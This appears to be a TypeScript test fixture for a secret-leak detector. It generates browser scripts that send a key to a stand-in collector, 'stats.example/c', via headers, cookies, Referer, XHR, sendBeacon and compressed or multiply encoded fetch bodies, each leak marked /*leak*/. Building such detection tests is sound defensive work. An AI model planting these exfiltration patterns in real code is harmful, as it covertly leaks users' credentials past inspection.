import { placeOf } from '../call-site.ts';
import { base64, base64url, hex, jsonEscapes, percent } from '../forms.ts';
import { json } from '../site.ts';
import { type Channel, channel, here, scriptInitiator } from './channel.ts';

const collect = 'https://stats.example/c';

/** Headers and bodies of fetch, XMLHttpRequest and sendBeacon, each with the key in another form. */
export function requestChannels(key: string): Channel[] {
  return [...headerChannels(key), ...bodyChannels(key), ...binaryChannels(key)];
}

function headerChannels(key: string): Channel[] {
  return [
    channel('/header-hex', {
      ...{ url: collect, part: 'request.header', name: 'X-Trace', encodings: ['hex'], wire: hex(key).toUpperCase() },
      function: 'trace',
      script: `const digits = (character) => character.charCodeAt(0).toString(16);

function trace(key) {
  const headers = { 'X-Trace': [...key].map(digits).join('').toUpperCase() };
  return /*leak*/fetch('${collect}', { headers });
}

trace('${key}').finally(done);
`,
    }),
    channel('/cookie', {
      ...{ url: `${here}/me.json`, part: 'request.header', name: 'Cookie', encodings: ['base64'], wire: base64(key) },
      files: { '/me.json': json({ name: 'guest' }) },
      function: 'loadMe',
      script: `function loadMe() {
  document.cookie = 'session=' + btoa('${key}') + '; path=/me.json; max-age=60';
  return /*leak*/fetch('/me.json');
}

loadMe().finally(done);
`,
    }),
    channel('/referer', {
      ...{ url: `${here}/terms.json`, part: 'request.header', name: 'Referer', wire: `?k=${key}` },
      files: { '/terms.json': json({}) },
      function: 'loadTerms',
      script: `function loadTerms() {
  history.replaceState(null, '', '?k=' + '${key}');
  return /*leak*/fetch('/terms.json');
}

loadTerms().finally(done);
`,
    }),
  ];
}

function bodyChannels(key: string): Channel[] {
  const post = { method: 'POST', url: collect, part: 'request.body' } as const;
  return [
    channel('/xhr-percent', {
      ...{ ...post, name: null, encodings: ['percent'], wire: percent(key), function: 'report' },
      script: `const percent = (byte) => '%' + byte.toString(16);

function report(key) {
  const request = new XMLHttpRequest();
  request.open('POST', '${collect}');
  request.onloadend = done;
  request./*leak*/send([...new TextEncoder().encode(key)].map(percent).join(''));
}

report('${key}');
`,
    }),
    channel('/beacon-json-escapes', {
      ...{ ...post, name: 'note', encodings: ['json'], wire: jsonEscapes(key), function: 'reportVisit' },
      script: `const escape = (character) => '\\\\u' + character.charCodeAt(0).toString(16).padStart(4, '0');

function reportVisit(key) {
  navigator./*leak*/sendBeacon('${collect}', '{"note":"' + [...key].map(escape).join('') + '"}');
  done();
}

reportVisit('${key}');
`,
    }),
    channel('/fetch-base64url', {
      ...{ ...post, name: 'state', encodings: ['base64url'], wire: base64url(`ÿ?${key}`), function: 'keep' },
      script: `function keep(key) {
  const bytes = new TextEncoder().encode('ÿ?' + key);
  const state = btoa(String.fromCharCode(...bytes)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
  return /*leak*/fetch('${collect}', { method: 'POST', body: JSON.stringify({ state }) });
}

keep('${key}').finally(done);
`,
    }),
    channel('/fetch-json-in-json', {
      ...{ ...post, name: 'event', wire: `\\"apiKey\\":\\"${key}`, function: 'log' },
      script: `function log(key) {
  const event = JSON.stringify({ apiKey: key });
  return /*leak*/fetch('${collect}', { method: 'POST', body: JSON.stringify({ event }) });
}

log('${key}').finally(done);
`,
    }),
    channel('/fetch-base64-twice', {
      ...{ ...post, name: null, encodings: ['base64', 'base64'], wire: base64(base64(`${key}:`)), function: 'send' },
      script: `function send(key) {
  return /*leak*/fetch('${collect}', { method: 'POST', body: btoa(btoa(key + ':')) });
}

send('${key}').finally(done);
`,
    }),
    channel('/multipart-file', {
      ...{ ...post, name: 'file', wire: `key=${key}`, function: 'upload' },
      script: `function upload(key) {
  const body = new FormData();
  body.append('title', 'settings');
  body.append('file', new File(['key=' + key + '\\n'], 'settings.ini', { type: 'text/plain' }));
  return /*leak*/fetch('${collect}', { method: 'POST', body });
}

upload('${key}').finally(done);
`,
    }),
  ];
}

/** Bodies that are no text. */
function binaryChannels(key: string): Channel[] {
  const post = { method: 'POST', url: collect, part: 'request.body' } as const;
  const compressed = (format: 'gzip' | 'deflate') => `async function sync(key) {
  const settings = new Blob([JSON.stringify({ theme: 'dark', apiKey: key })]);
  const stream = settings.stream().pipeThrough(new CompressionStream('${format}'));
  const body = await new Response(stream).arrayBuffer();
  await /*leak*/fetch('${collect}', { method: 'POST', body });
}

sync('${key}').finally(done);
`;
  return [
    channel('/fetch-gzip', {
      ...{ ...post, name: null, encodings: ['gzip'], wire: `"apiKey":"${key}"`, script: compressed('gzip') },
      initiator: {
        ...scriptInitiator('/fetch-gzip.js', compressed('gzip'), 'sync'),
        // What waited for the compressed bytes.
        asyncParent: { url: `${here}/fetch-gzip.js`, function: null, ...placeOf(compressed('gzip'), "sync('") },
      },
    }),
    channel('/fetch-deflate', {
      ...{ ...post, name: null, encodings: ['gzip'], wire: `"apiKey":"${key}"`, function: 'sync' },
      script: compressed('deflate'),
    }),
    channel('/fetch-bytes', {
      ...{ ...post, name: null, wire: key, function: 'sendBytes' },
      script: `function sendBytes(key) {
  const body = new Uint8Array([255, 0, 254, ...new TextEncoder().encode(key), 128]);
  return /*leak*/fetch('${collect}', { method: 'POST', body });
}

sendBytes('${key}').finally(done);
`,
    }),
  ];
}
